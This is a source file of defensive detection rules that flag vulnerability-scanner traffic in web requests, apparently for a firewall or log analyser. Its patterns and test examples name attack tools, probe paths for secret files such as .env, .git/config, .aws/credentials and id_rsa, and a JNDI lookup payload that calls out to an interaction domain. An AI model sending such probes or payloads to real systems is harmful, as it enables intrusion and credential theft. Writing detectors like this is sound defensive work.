import { ANY, C } from '../charMask.js';
import type { Rule } from './rule.js';

/** Attack tools announcing themselves, and probes only a scanner sends. */
export const scannerRules: readonly Rule[] = [
  {
    id: 'scanner.tool-ua',
    type: 'scanner',
    summary: 'a user agent naming an attack or vulnerability-scanning tool',
    locations: ['ua'],
    trigger: ANY,
    pattern:
      /\b(?:sqlmap|nikto|acunetix|netsparker|w3af|nmap|masscan|zgrab|nuclei|dirbuster|gobuster|wpscan|nessus|openvas|arachni|skipfish|havij|wfuzz|ffuf|feroxbuster|dirb|whatweb|commix|xsstrike|jaeles|appscan|webinspect|zmeu|morfeus|fimap|sqlninja|bsqlbf|jorgee|l9explore|l9tcpid|zaproxy|owasp[ _-]?zap|burpsuite|burp collaborator|hydra\/|paros\/|vega\/|qualys)\b/,
    examples: {
      match: [
        'sqlmap/1.4.7#stable (http://sqlmap.org)',
        'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
        'Mozilla/5.0 (Windows NT 10.0) nuclei',
        'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)',
      ],
      miss: [
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
        'curl/8.4.0',
        'Googlebot/2.1',
      ],
    },
  },
  {
    id: 'scanner.tool-marker',
    type: 'scanner',
    summary: 'a scanner name or test marker in the path, a parameter or a header',
    locations: ['path', 'query', 'body', 'cookie', 'header'],
    parts: ['name', 'value'],
    trigger: ANY,
    keywords: [
      'acunetix',
      'netsparker',
      'sqlmap',
      'w3af',
      'nessus',
      'wvs',
      'appscan',
      'x-wipp',
      'nikto',
      'wpscan',
      'nuclei',
      'vulnweb',
      'inexistent-website',
    ],
    // vulnweb.com hosts Acunetix's test targets (testasp.vulnweb.com/t/fit.txt), and
    // some-inexistent-website.acu is its unresolvable include target.
    pattern:
      /acunetix|netsparker|\bsqlmap\b|\bw3af\b|\bnessus\b|wvs-test|wvs_test|\bappscan\b|x-wipp|\bnikto\b|\bwpscan\b|\bnuclei\b|\bvulnweb\.com\b|\bsome-inexistent-website\.acu\b/,
    examples: {
      match: [
        'acunetix-wvs-test-for-some-inexistent-file',
        'acunetix_wvs_security_test',
        'netsparker(0x000',
        'Http://testasp.vulnweb.com/t/fit.txt',
        'http://some-inexistent-website.acu/some_inexistent_file_with_long_name',
      ],
      miss: ['scanner.pdf', 'nessie', 'vulnweb', 'http://inexistent-website.example/'],
    },
  },
  {
    id: 'scanner.oast-domain',
    type: 'scanner',
    summary: 'an out-of-band interaction domain used by scanners (Burp Collaborator, interactsh…)',
    locations: ['path', 'query', 'body', 'cookie', 'header', 'ua'],
    trigger: C.DOT,
    keywords: [
      'burpcollaborator',
      'oastify',
      'interact.sh',
      'oast.',
      'dnslog',
      'ceye',
      'requestbin',
      'canarytokens',
      'bxss.me',
    ],
    // bxss.me: Acunetix's AcuMonitor (http://hitknOaz89C0Q.bxss.me/).
    pattern:
      /\b(?:burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|dnslog\.cn|ceye\.io|requestbin\.net|canarytokens\.com|bxss\.me)\b/,
    examples: {
      match: [
        'http://abc123.burpcollaborator.net',
        'x.oast.fun',
        '${jndi:ldap://a.interact.sh/x}',
        'http://hitknOaz89C0Q.bxss.me/',
      ],
      miss: ['collaborator.example', 'oast.example', 'bxss.media.example'],
    },
  },
  {
    id: 'scanner.backup-probe',
    type: 'scanner',
    summary: 'a request for an editor or backup leftover (.bak, .old, .orig, .swp, ~, .inc…)',
    locations: ['path'],
    trigger: C.DOT,
    keywords: [
      '.bak',
      '.bkp',
      '.old',
      '.orig',
      '.sav',
      '.swp',
      '.swo',
      '.tmp',
      '.backup',
      '.copy',
      '.inc',
      '~',
    ],
    pattern: /\.(?:bak|bkp|old|orig|save|sav|swp|swo|tmp|backup|copy|inc)$|[^/]~\d?$/,
    examples: {
      match: [
        '/tienda1/global.old',
        '/index.php.bak',
        '/anadir.jsp/x~',
        '/miembros/index.jsp/123.INC',
      ],
      miss: ['/images/old/logo.png', '/~user/', '/index.php'],
    },
  },
  {
    id: 'scanner.legacy-probe',
    type: 'scanner',
    summary:
      'paths from scanner databases for legacy server holes (FrontPage, IIS admin, Domino, CGI samples)',
    locations: ['path'],
    trigger: C.SLASH | C.DOT,
    keywords: [
      '_vti_',
      'iisadmpwd',
      'iissamples',
      'msadc',
      'scripts/',
      'cgi-bin/',
      '.htr',
      '.nsf',
      '.ida',
      '.idq',
    ],
    pattern:
      /(?:^|\/)(?:_vti_(?:pvt|bin|inf|cnf|log|txt)\b|iisadmpwd\/|iissamples\/|msadc\/|scripts\/(?:root|cmd)\.exe|cgi-bin\/(?:phf|test-cgi|php\.cgi|printenv|nph-test-cgi)\b)|\.(?:htr|nsf|ida|idq)$/,
    examples: {
      match: ['/_vti_pvt/', '/iisadmpwd/aexp4.htr', '/bookmarks.nsf', '/cgi-bin/phf'],
      miss: ['/cgi-bin/search.pl', '/scripts/app.js', '/vti/'],
    },
  },
  {
    id: 'scanner.sensitive-path',
    type: 'scanner',
    summary:
      'a request for files that leak source or secrets (.git/, .env, .DS_Store, wp-config.php…)',
    locations: ['path'],
    trigger: C.DOT | C.SLASH,
    keywords: [
      '.git',
      '.svn',
      '.hg/',
      '.bzr',
      '.env',
      '.ds_store',
      '.htpasswd',
      '.htaccess',
      'wp-config',
      'web.config',
      '.aws',
      'id_rsa',
      '.npmrc',
      '.dockercfg',
      'phpinfo',
      'server-status',
      '.idea',
      '.vscode',
    ],
    pattern:
      /(?:^|\/)(?:\.git(?:\/|$)|\.svn\/|\.hg\/|\.bzr\/|\.env(?:\.\w{1,12})?$|\.ds_store$|\.htpasswd$|\.htaccess$|wp-config\.php|web\.config$|\.aws\/credentials|id_rsa\b|\.npmrc$|\.dockercfg$|phpinfo\.php$|server-status$|\.idea\/|\.vscode\/)/,
    examples: {
      match: [
        '/.git/config',
        '/.env',
        '/app/.env.production',
        '/wp-config.php.bak',
        '/server-status',
      ],
      miss: ['/environment', '/git/guide', '/static/app.js'],
    },
  },
];
